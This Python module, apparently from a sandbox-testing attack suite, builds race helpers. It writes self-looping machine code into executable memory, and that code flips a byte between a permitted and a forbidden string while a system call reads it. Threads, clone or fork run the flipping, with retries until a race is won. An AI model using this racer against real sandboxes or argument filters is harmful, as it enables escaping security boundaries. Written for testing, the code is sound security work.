"""How memory is changed while a system call reads it: a few machine instructions that alternate one byte for ever.

Python's own threads are too slow for that. The instructions run in a thread, in a process that shares the memory, or
through a second mapping of it; each race says which.
"""

import ctypes
import mmap
import os
import platform
import struct
import threading
import time
from collections.abc import Callable

from attack import LIBC, SECONDS, NotPossible

CLONE_VM, SIGCHLD = 0x100, 17
_ROOM = 4096


def _alternator(one: int, other: int) -> bytes:
    """Code for `for (;;) { *address = one; *address = other; }` with the address in the first register."""
    if platform.machine() == "x86_64":
        return bytes((0xC6, 0x07, one, 0xC6, 0x07, other, 0xEB, 0xF8))
    if platform.machine() == "aarch64":
        move = 0x52800000
        return struct.pack("<5I", move | one << 5 | 1, move | other << 5 | 2, 0x39000001, 0x39000002, 0x17FFFFFE)
    raise NotPossible("the racer has no code for this machine")


_kept: list[mmap.mmap] = []  # what others still run in, or read, must not be unmapped


def address_of(memory: mmap.mmap) -> int:
    """Where a mapping lies; from here on it lives as long as this process."""
    _kept.append(memory)
    return ctypes.addressof(ctypes.c_char.from_buffer(memory))


def shared_memory() -> mmap.mmap:
    """Memory that children share."""
    return mmap.mmap(-1, _ROOM)


def private_memory() -> mmap.mmap:
    """Memory that nobody shares."""
    return mmap.mmap(-1, _ROOM, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)


class Race:
    """Two texts that differ in one byte, in one place of memory, and somebody who goes from one to the other."""

    def __init__(self, good: str | bytes, bad: str | bytes, memory: mmap.mmap | None = None) -> None:
        self.good, self.bad = os.fsencode(good), os.fsencode(bad)
        (self._place,) = [at for at, pair in enumerate(zip(self.good, self.bad, strict=True)) if pair[0] != pair[1]]
        self.memory = memory or private_memory()
        self.memory[: len(self.good) + 1] = self.good + b"\0"
        self.address = address_of(self.memory)
        code = _alternator(self.bad[self._place], self.good[self._place])
        self._code = mmap.mmap(-1, _ROOM, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        self._code[: len(code)] = code
        self._entry = address_of(self._code)

    def memory_pointer(self) -> ctypes.c_void_p:
        """The text as an argument of a call."""
        return ctypes.c_void_p(self.address)

    def by_thread(self, address: int = 0) -> None:
        """Change it from a thread, at another address of the same memory if there is one."""
        run = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self._entry)
        place = (address or self.address) + self._place
        threading.Thread(target=run, args=(ctypes.c_void_p(place),), daemon=True).start()

    def by_clone(self) -> int:
        """Change it from a process that shares the whole memory; return its id."""
        stack = address_of(shared_memory())
        place = ctypes.c_void_p(self.address + self._place)
        pid: int = LIBC.clone(ctypes.c_void_p(self._entry), ctypes.c_void_p(stack + _ROOM), CLONE_VM | SIGCHLD, place)
        if pid < 0:
            raise OSError(ctypes.get_errno(), "clone")
        return pid

    def by_fork(self) -> int:
        """Change it from a child, to which the memory must be shared; return its id."""
        pid = os.fork()
        if pid == 0:
            ctypes.CFUNCTYPE(None, ctypes.c_void_p)(self._entry)(self.address + self._place)
        return pid


def until_won(attempt: Callable[[], bool]) -> bool:
    """Try for as long as races last here; an error is a refusal, and the next try may fare better."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        try:
            if attempt():
                return True
        except OSError:
            continue
    return False


def until_won_by_children(attempt: Callable[[], bool]) -> bool:
    """The same where a lost attempt is killed: each child tries until it is."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        pid = os.fork()
        if pid == 0:
            os._exit(0 if until_won(attempt) else 1)
        status = os.waitpid(pid, 0)[1]
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
            return True
    return False
